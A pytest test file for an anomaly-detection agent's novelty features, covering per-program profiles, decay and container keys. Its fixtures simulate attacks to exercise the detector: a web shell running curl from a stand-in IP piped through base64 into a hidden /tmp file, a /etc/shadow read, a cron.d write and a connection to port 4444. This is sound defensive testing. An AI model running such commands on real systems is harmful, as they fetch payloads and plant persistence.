"""Feature rows: novelty per program measured before counting (live) or leaving the row out (training)."""

from __future__ import annotations

import json
import math

import numpy as np
import pytest

from sentinel.anomaly.features import FEATURES, INDEX, NEWS_LEVEL, FeatureExtractor, loo_row
from sentinel.anomaly.keys import dest_range, dir_class, is_write_open, program
from sentinel.anomaly.profiles import (
    ACTIVE,
    HOST,
    NS_PER_DAY,
    SLOT_NS,
    ProfileState,
    ProfileTable,
    novelty_value,
)
from sentinel.events import AF_INET, AF_INET6, AF_UNIX, Event, EventType
from sentinel.process.table import Process

DAY0 = 1_700_000_000 * 1_000_000_000


def proc(pid: int, exe: str, parent: Process | None = None, uid: int = 33, tty: int = 0) -> Process:
    return Process(pid=pid, ppid=parent.pid if parent else 0, start_ns=0, entity_id=str(pid), comm=exe[-15:],
                   exe=exe, uid=uid, parent=parent, tty_nr=tty)  # fmt: skip


def exec_ev(pid: int, exe: str, argv: list[str], uid: int = 33) -> Event:
    return Event(type=EventType.EXEC, ts_ns=1, pid=pid, tid=pid, uid=uid, gid=uid, comm="x", filename=exe,
                 argv=argv, argc_total=len(argv))  # fmt: skip


def open_ev(pid: int, path: str, flags: int = 0, ret: int = 3, uid: int = 33) -> Event:
    return Event(type=EventType.OPEN, ts_ns=1, pid=pid, tid=pid, uid=uid, gid=uid, comm="x", path=path,
                 open_flags=flags, ret=ret)  # fmt: skip


def test_novelty_is_zero_for_known_items_and_weighed_by_how_often_the_subject_does_new_things() -> None:
    t = ProfileTable()
    assert t.novelty("db", "/var/lib/db") == (novelty_value(0, 0), 0.0)  # nothing known about the subject
    for _ in range(1000):
        t.update("db", "/var/lib/db")
    for i in range(1000):  # a compiler: a new directory every other time
        t.update("cc", f"/src/{i}" if i % 2 else "/usr/include")
    assert t.novelty("db", "/var/lib/db") == (0.0, 1000.0)
    db_new, _ = t.novelty("db", "/etc/ssh")
    cc_new, _ = t.novelty("cc", "/elsewhere")
    assert db_new == pytest.approx(-math.log(1 / 1002), abs=1 / 32)  # n1 = 0, one directory: news
    assert cc_new < 1.0 < db_new  # a program that does new things all the time: little news
    assert t.subject_stats("db") == (1, 1000.0, 0)


def test_a_broad_program_is_no_news_even_once_its_habits_recur() -> None:
    """An admin's shell started thirty programs, each many times: Good–Turing alone (n1 = 0) would call the
    thirty-first news; Witten–Bell (30 distinct items) says the shell often starts something new."""
    t = ProfileTable()
    for _ in range(5):
        for i in range(30):
            t.update("bash", f"/usr/bin/tool{i}")
    shell, _ = t.novelty("bash", "/usr/bin/stat")
    assert shell == novelty_value(0, 150, 30) == pytest.approx(-math.log(30 / 181), abs=1 / 32)
    assert shell < NEWS_LEVEL
    for _ in range(150):
        t.update("daemon", "/usr/bin/helper")
    daemon, _ = t.novelty("daemon", "/usr/bin/sh")
    assert daemon == novelty_value(0, 150, 1) > NEWS_LEVEL  # one helper, ever: a second program is news


def test_leave_one_out_makes_a_singleton_new_and_a_repeat_known() -> None:
    t = ProfileTable()
    for _ in range(50):
        t.update("svc", "/srv/www")
    t.update("svc", "/etc/once")
    t.update("svc", "/srv/twice")
    t.update("svc", "/srv/twice")
    once, count = t.novelty("svc", "/etc/once", minus=1.0)
    assert count == 0.0 and once == novelty_value(0, 52, 2)  # its own count left out: new, n1 - 1, K - 1
    assert t.novelty("svc", "/srv/twice", minus=1.0) == (0.0, 1.0)  # seen again: known
    assert t.novelty("svc", "/etc/once") == (0.0, 1.0)  # live: known


def test_profiles_decay_per_day_and_evict_least_counted_keeping_singles_counted() -> None:
    t = ProfileTable(half_life_days=1.0, max_items=10_000, max_per_subject=10)
    t.update("p", "old", DAY0)
    t.update("p", "old", DAY0 + 1)  # the same time slot: counted once
    t.update("p", "old", DAY0 + SLOT_NS)
    t.update("p", "new", DAY0 + 2 * NS_PER_DAY)
    assert t.count("p", "old") == pytest.approx(0.5)  # two half-lives
    for i in range(20):
        t.update("p", f"k{i}", DAY0 + 2 * NS_PER_DAY + i * SLOT_NS)
    assert len(t.subjects["p"].items) <= 10
    _, total, singles = t.subject_stats("p")
    assert singles >= 15  # forgotten singles still say this program does new things
    assert total >= 21


def test_profile_state_round_trips_through_json_with_hostile_names() -> None:
    s = ProfileState()
    s.update("read_dir", "/usr/bin/cat", "/tmp/x-\udcff", DAY0)
    s.update("read_dir", "/usr/bin/c\udcfe", "/etc", DAY0)
    back = ProfileState.from_dict(json.loads(json.dumps(s.to_dict(json_safe=True))))
    assert back.tables["read_dir"].count("/usr/bin/cat", "/tmp/x-\udcff") == 1.0
    assert back.tables["read_dir"].count("/usr/bin/c\udcfe", "/etc") == 1.0
    assert back.first_ns == DAY0
    bad = s.to_dict()
    bad["tables"]["read_dir"]["subjects"]["/usr/bin/cat"]["items"]["x"] = float("nan")
    with pytest.raises(ValueError):
        ProfileState.from_dict(bad)
    with pytest.raises(ValueError, match="version"):
        ProfileState.from_dict({"version": 1})


def test_directory_habits_normalise_ids_and_temporary_names_only() -> None:
    assert dir_class("/proc/4711") == dir_class("/proc/12") == "/proc/#"
    assert dir_class("/tmp/tmp.k3Jd9aZ0Q1") == dir_class("/tmp/tmpa8_x2k9z") == "/tmp/*"
    assert dir_class("/var/log/journal/3d1219c7c4c5404aaa1f6d2a48adfda4") == "/var/log/journal/*"
    assert dir_class("/usr/lib/python3.11") == "/usr/lib/python#.#"
    assert dir_class("/etc/ssh") == "/etc/ssh" and dir_class("/root/.ssh") == "/root/.ssh"
    assert dir_class("/srv/deadbeef-cafe") == "/srv/deadbeef-cafe"  # letters only: a name, not an id
    assert dir_class("/work/repo/.git/objects/3f") == "/work/repo/.git/objects"  # a tree is one habit
    assert dir_class("/proc/4711/task/4712/fd") == "/proc/#/task/#"
    assert is_write_open(0o1) and is_write_open(0o100) and not is_write_open(0o2000000)
    assert dest_range(AF_INET, "10.1.2.3") == "10.1.2.0/24"
    assert dest_range(AF_INET6, "2001:db8:1:2:3::4") == "2001:db8:1:2::/64"
    assert dest_range(AF_INET6, "::1") == "0:0:0:0::/64"
    assert dest_range(AF_UNIX, "/run/user/1000/bus") == "unix:/run/user/#/bus"


def test_a_program_is_the_executable_or_what_an_interpreter_runs() -> None:
    py = "/usr/bin/python3.11"
    assert program(py, ["python3", "-u", "/srv/app/job.py", "x"]) == f"{py} /srv/app/job.py"
    assert program(py, ["python3", "-X", "dev", "job.py"]) == f"{py} job.py"  # -X takes a value
    assert program(py, ["python", "-m", "pytest", "-q"]) == f"{py} -m pytest"
    assert program(py, ["python", "-c", "import os"]) == f"{py} -c"
    assert program(py, ["python3", "/tmp/tmpab12cd34/x.py"]) == f"{py} /tmp/*/x.py"
    assert program(py, ["python3"]) == py and program(py, []) == py
    assert program("/usr/bin/java", ["java", "-Xmx1g", "-jar", "app.jar"]) == "/usr/bin/java -jar app.jar"
    bash = "/usr/bin/bash"
    assert program(bash, ["bash", "-i"]) == bash and program(bash, ["-bash"]) == bash  # interactive
    assert program(bash, ["bash", "-e", "/usr/local/bin/b.sh"]) == f"{bash} /usr/local/bin/b.sh"
    assert program(bash, ["bash", "-lc", "make"]) == program(bash, ["bash", "-c", "ls"]) == f"{bash} -c"
    assert program("/usr/bin/perl", ["perl", "-e", "print 1"]) == "/usr/bin/perl -e"
    fx = FeatureExtractor()
    svc = proc(3, py)
    svc.args = ["python3", "/srv/app/web.py"]
    job = proc(4, py)
    job.args = ["python3", "/srv/app/report.py"]
    fx.row(open_ev(3, "/srv/app/static/x"), svc, "/srv/app/static/x")
    assert fx.state.tables["read_dir"].count(f"{py} /srv/app/web.py", "/srv/app/static") == 1.0
    assert fx.state.tables["read_dir"].count(f"{py} /srv/app/report.py", "/srv/app/static") == 0.0
    fx.row(open_ev(4, "/srv/app/static/x"), job, "/srv/app/static/x")
    assert fx.state.tables["read_dir"].count(f"{py} /srv/app/report.py", "/srv/app/static") == 1.0


def test_web_shell_exec_row() -> None:
    fx = FeatureExtractor()
    init = proc(1, "/usr/lib/systemd/systemd", uid=0)
    fpm = proc(10, "/usr/sbin/php-fpm8.2", init)
    for i in range(200):  # the baseline: php-fpm runs its usual helper
        fx.row(
            exec_ev(100 + i, "/usr/bin/convert", ["convert", "a.png", "b.jpg"]),
            proc(100 + i, "/usr/bin/convert", fpm),
        )
    sh = proc(1000, "/usr/bin/dash", fpm)
    argv = ["sh", "-c", "curl http://203.0.113.9/x | base64 -d > /tmp/.x; echo ZWNobyBoZWxsbyB3b3JsZA=="]
    row = fx.row(exec_ev(1000, "/bin/sh", argv), sh)
    x = row.values
    assert x.dtype == np.float64 and x.shape == (len(FEATURES),)
    assert x[INDEX["new_child"]] == novelty_value(0, 200, 1) > NEWS_LEVEL  # php-fpm never started another
    assert row.details["new_child"].startswith("php-fpm8.2 started /usr/bin/dash: it had not started this")
    assert x[INDEX["new_exe"]] > 0  # the host ran one program 200 times: a second one is news
    # dash never ran before, so nothing is known of its users: new, but below the news level (0 in the row)
    assert x[INDEX["new_user"]] == 0.0 and "new_user" in row.details
    assert x[INDEX["type_exec"]] == 1.0 and x[INDEX["type_open"]] == 0.0
    assert set(FEATURES) == {"new_exe", "new_child", "new_user", "new_read_dir", "new_write_dir",
                             "new_port", "new_dest", "new_host_dest", "type_exec", "type_open",
                             "type_connect"}  # fmt: skip
    # counted after measuring: the same pair is now known
    again = fx.row(exec_ev(1001, "/bin/sh", argv), proc(1001, "/usr/bin/dash", fpm))
    assert again.values[INDEX["new_child"]] == 0.0 and "new_child" not in again.details


def test_open_and_connect_rows() -> None:
    fx = FeatureExtractor()
    p = proc(5, "/tmp/.cache/x", proc(1, "/usr/bin/bash", uid=0), uid=0, tty=34816)
    r = fx.row(open_ev(5, "/etc/shadow", ret=-13, uid=0), p, "/etc/shadow")
    assert r.values[INDEX["type_open"]] == 1.0
    # a program never seen: its read is new, but nothing is expected of it (below the news level: 0)
    assert r.values[INDEX["new_read_dir"]] == 0.0 and "new_read_dir" in r.details
    assert fx.state.tables["read_dir"].count("/tmp/.cache/x", "/etc") == 1.0
    # a process first met by an open (started before the agent) counts its executable once, not per event
    assert fx.state.tables["exe"].count(HOST, "/tmp/.cache/x") == 1.0
    w = fx.row(open_ev(5, "/etc/cron.d/x", flags=0o101, uid=0), p, "/etc/cron.d/x")
    assert "new_write_dir" in w.details and w.values[INDEX["new_read_dir"]] == 0.0
    assert fx.state.tables["write_dir"].count("/tmp/.cache/x", "/etc/cron.d") == 1.0
    co = Event(type=EventType.CONNECT, ts_ns=2, pid=5, tid=5, uid=0, gid=0, comm="x", family=AF_INET,
               address="198.51.100.7", port=4444, ret=-115)  # fmt: skip
    for i in range(100):  # so 4444 is news for this program: 443 in 100 time slots
        fx.state.update("exe_port", "/tmp/.cache/x", "443", DAY0 + i * SLOT_NS)
    c1 = fx.row(co, p)
    c2 = fx.row(co, p)
    assert c1.values[INDEX["new_port"]] == novelty_value(0, 100, 1) and c2.values[INDEX["new_port"]] == 0.0
    assert "new_host_dest" in c1.details and "new_host_dest" not in c2.details
    assert c1.details["new_port"] == (
        "x connected to 198.51.100.7:4444: no connection to this port by this program in the baseline "
        "(100 events, 1 distinct ports)"
    )


def test_training_rows_leave_themselves_out() -> None:
    fx = FeatureExtractor(learn=False)
    svc = proc(9, "/usr/sbin/svc")
    rows = []
    first_new = None
    for i in range(100):
        path = "/etc/once/f" if i == 7 else "/srv/data/f"
        x, facts = fx.compute(open_ev(9, path), svc, path)
        rows.append((np.array(x), list(facts.keys), facts.repeats))
        first_new = facts.new if i == 0 else first_new
        fx.commit(facts, DAY0 + i * SLOT_NS)
    assert first_new  # live, score-then-update: the very first open looked new
    for x, keys, weight in rows:
        loo_row(fx.state, x, keys, weight)
    assert rows[0][0][INDEX["new_read_dir"]] == 0.0  # it recurred: known at detection time
    assert rows[7][0][INDEX["new_read_dir"]] == novelty_value(0, 99, 1)  # only once in the period: new


def test_frozen_extractor_does_not_learn() -> None:
    fx = FeatureExtractor(learn=False)
    fx.row(exec_ev(1, "/usr/bin/ls", ["ls"]), proc(1, "/usr/bin/ls"))
    assert fx.state.tables["exe"].subjects == {}


def test_known_process_open_rows_are_their_directory_novelty_and_cache_key() -> None:
    """Opens by a process already counted take the fast path: only the directory's novelty varies."""
    fx = FeatureExtractor()
    p = proc(9, "/usr/bin/python3", proc(1, "/usr/bin/bash", uid=0), uid=0)

    def open_row(path: str, flags: int = 0) -> tuple[np.ndarray, object]:
        values, facts = fx.compute(open_ev(9, path, flags), p, path)
        return np.array(values), facts.row_key

    for _ in range(200):  # the program's habits: one directory read, one written
        fx.state.update("read_dir", "/usr/bin/python3", "/usr/lib", 0)
        fx.state.update("write_dir", "/usr/bin/python3", "/var/log", 0)
    _, key = open_row("/srv/a")  # first met: counts the image
    assert key is None and fx.state.tables["exe"].count(HOST, "/usr/bin/python3") == 1.0
    again, key = open_row("/srv/b")
    assert again[INDEX["new_read_dir"]] == 0.0 and key == (EventType.OPEN, INDEX["new_read_dir"], 0.0)
    new, key = open_row("/var/x")
    assert new[INDEX["new_read_dir"]] > 0.0 and key == (EventType.OPEN, INDEX["new_read_dir"],
                                                      new[INDEX["new_read_dir"]])  # fmt: skip
    written, key = open_row("/srv/c", flags=0o1)
    assert written[INDEX["new_write_dir"]] > 0.0 and written[INDEX["new_read_dir"]] == 0.0
    assert fx.state.tables["read_dir"].count("/usr/bin/python3", "/srv") == 2.0
    assert fx.state.tables["write_dir"].count("/usr/bin/python3", "/srv") == 1.0


def test_a_daemon_active_for_an_hour_makes_its_first_child_news() -> None:
    """Every 10-second slot a program is active counts as evidence in its per-program profiles: a daemon
    that served for an hour without a child has an hour of evidence that it does not start children."""
    fx = FeatureExtractor()
    db = proc(7, "/usr/sbin/dbd", proc(1, "/usr/lib/systemd/systemd", uid=0), uid=999)
    for i in range(360):  # an open now and then, every slot of an hour
        fx.compute(open_ev(7, "/var/lib/dbd/base/1", uid=999), db, "/var/lib/dbd/base/1", DAY0 + i * SLOT_NS)
    active = fx.state.tables["parent_exe"].count("/usr/sbin/dbd", ACTIVE)
    assert active == 360.0
    child = proc(70, "/usr/bin/id", db, uid=999)
    x, facts = fx.compute(exec_ev(70, "/usr/bin/id", ["id"]), child, None, DAY0 + 361 * SLOT_NS)
    assert x[INDEX["new_child"]] == novelty_value(0, 360) > NEWS_LEVEL and facts.news


def test_folded_repeats_vouch_for_the_slots_the_kernel_hid() -> None:
    """A daemon rereading one file is reported once per de-duplication window (30 s), the next report
    carrying the repeats: those count the slots since it was last seen active (at most three more)."""
    fx = FeatureExtractor()
    svc = proc(8, "/usr/sbin/svc", proc(1, "/usr/lib/systemd/systemd", uid=0), uid=33)
    for i in range(20):  # ten minutes: a report every 30 s, each standing for 29 folded repeats
        ev = open_ev(8, "/etc/svc.conf")
        ev.repeat_count = 0 if i == 0 else 29
        fx.compute(ev, svc, "/etc/svc.conf", DAY0 + i * 3 * SLOT_NS)
    assert fx.state.tables["parent_exe"].count("/usr/sbin/svc", ACTIVE) == 1 + 19 * 3  # every slot
    quiet = open_ev(8, "/etc/svc.conf")
    quiet.repeat_count = 2  # idle for ten minutes, then a report folding two: not ten minutes of evidence
    fx.compute(quiet, svc, "/etc/svc.conf", DAY0 + 120 * SLOT_NS)
    assert fx.state.tables["parent_exe"].count("/usr/sbin/svc", ACTIVE) == 58 + 3


def test_programs_in_a_container_are_profiled_per_image() -> None:
    """Once the runtime has answered, a container's programs are subjects of their image: nginx's shell is not
    the host's shell, and the key names the image, not the container (the same on every host). Before the
    answer (and on the host) a program is its plain path, so a container's first events add no subject."""
    from sentinel.containers.cgroup_path import ContainerRef
    from sentinel.containers.meta_view import fields_of
    from sentinel.containers.metadata import ContainerMeta

    full = "ab" * 32
    ref = ContainerRef("docker", full, full[:12])
    host_sh = proc(10, "/bin/sh")
    web = proc(20, "/usr/sbin/nginx")
    web.container = ref
    sh_in_web = proc(21, "/bin/sh", parent=web)
    sh_in_web.container = ref
    ext = FeatureExtractor()
    ext.containers = {}  # the view: nothing answered yet
    assert ext.program_of(sh_in_web) == "/bin/sh" == ext.program_of(host_sh)
    ext.containers = {full: fields_of(ContainerMeta(full_id=full, source="docker:/s", image="nginx:1.25",
                                                    image_repository="nginx"))}  # fmt: skip
    assert ext.program_of(sh_in_web) == "[nginx] /bin/sh"  # recomputed once the image is known
    assert ext.program_of(web) == "[nginx] /usr/sbin/nginx" and ext.program_of(host_sh) == "/bin/sh"
    _x, facts = ext.compute(exec_ev(21, "/bin/sh", ["sh", "-c", "id"]), sh_in_web, learn=True)
    assert ("parent_exe", "[nginx] /usr/sbin/nginx", "[nginx] /bin/sh") in [k[1:] for k in facts.keys]
    ext.containers = None  # no metadata at all (rules only, an old capture): plain paths
    assert ext.program_of(sh_in_web) == "/bin/sh"
